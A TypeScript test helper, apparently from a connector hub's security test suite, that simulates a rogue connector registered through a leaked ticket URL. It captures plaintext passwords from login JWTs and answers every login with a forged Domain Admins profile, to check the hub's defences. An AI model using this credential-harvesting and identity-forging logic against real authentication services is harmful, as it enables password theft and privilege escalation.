/**
 * The attacker of issue 12: someone who got hold of a ticket URL. It registers a key pair of its own through the
 * ticket, dials the hub like a connector, and answers every login "ok" with a forged profile in Domain Admins,
 * whatever the password. It never checks the hub's request JWTs: it only wants the passwords and the trust.
 */
import { decodeJwt } from 'jose';
import WebSocket from 'ws';
import { pathsFor } from '../../connector/config';
import { hubRequest } from '../../connector/hubHttp';
import { loadOrCreateIdentity, type Identity } from '../../connector/identity';
import { parseTicketUrl } from '../../protocol/ticketUrl';
import { signConnectorToken, thumbprint } from '../../protocol/tokens';
import * as path from 'node:path';

export const FORGED_PROFILE = {
  id: 'forged-admin',
  nickname: 'administrator',
  displayName: 'Forged',
  groups: ['Domain Admins'],
  emails: [],
  name: {},
};

export class RogueConnector {
  ws?: WebSocket;
  readonly frames: Array<{ n: string; p: any }> = [];
  readonly passwordsSeen: string[] = [];
  closed = false;

  private constructor(
    readonly identity: Identity,
    readonly info: { adHub: string; connectionName: string; realm: { name: string } },
    readonly caPem: string,
  ) {}

  get thumbprint(): string {
    return thumbprint(this.identity.certificateDer);
  }

  /** Registers a fresh key pair through the ticket; resolves with the HTTP status and the body. */
  static async register(
    ticket: string,
    caPem: string,
    dir: string,
  ): Promise<{ rogue?: RogueConnector; status: number; body: any }> {
    const t = parseTicketUrl(ticket);
    const info = await hubRequest(t.infoUrl, { caPem });
    if (info.status !== 200) return { status: info.status, body: info.body };
    const identity = await loadOrCreateIdentity(pathsFor(path.join(dir, 'config.json')));
    const res = await hubRequest(t.postUrl, {
      method: 'POST',
      caPem,
      body: {
        certs: [identity.certificateDer.toString('base64')],
        signInEndpoint: 'https://x/',
        agentMode: 'rogue',
        agentVersion: '9',
      },
    });
    return {
      status: res.status,
      body: res.body,
      rogue: res.status === 200 ? new RogueConnector(identity, info.body as never, caPem) : undefined,
    };
  }

  /** Dials the hub and authenticates; resolves with the hub's first answer. */
  connect(): Promise<{ n: string; p: any }> {
    return new Promise((resolve, reject) => {
      const ws = new WebSocket(this.info.adHub, { ca: this.caPem });
      this.ws = ws;
      this.closed = false;
      let first = true;
      ws.on('open', async () => {
        const jwt = await signConnectorToken(this.identity.privateKey, {
          connection: this.info.connectionName,
          realm: this.info.realm.name,
          host: 'rogue-host',
          version: '6.6.6',
        });
        ws.send(JSON.stringify({ n: 'authenticate', p: { jwt } }));
      });
      ws.on('message', (d) => {
        const f = JSON.parse(d.toString()) as { n: string; p: any };
        this.frames.push(f);
        if (first) {
          first = false;
          resolve(f);
          return;
        }
        if (f.n === 'authenticate_user') {
          const claims = decodeJwt(f.p.jwt) as { pid: string; password?: string };
          if (claims.password) this.passwordsSeen.push(claims.password);
          ws.send(JSON.stringify({ n: `${claims.pid}_result`, p: { profile: FORGED_PROFILE } }));
        }
      });
      ws.on('close', () => {
        this.closed = true;
        if (first) {
          first = false;
          resolve({ n: 'closed', p: null });
        }
      });
      ws.on('error', (e) => {
        if (first) {
          first = false;
          reject(e);
        }
      });
    });
  }

  close(): void {
    this.ws?.terminate();
  }
}
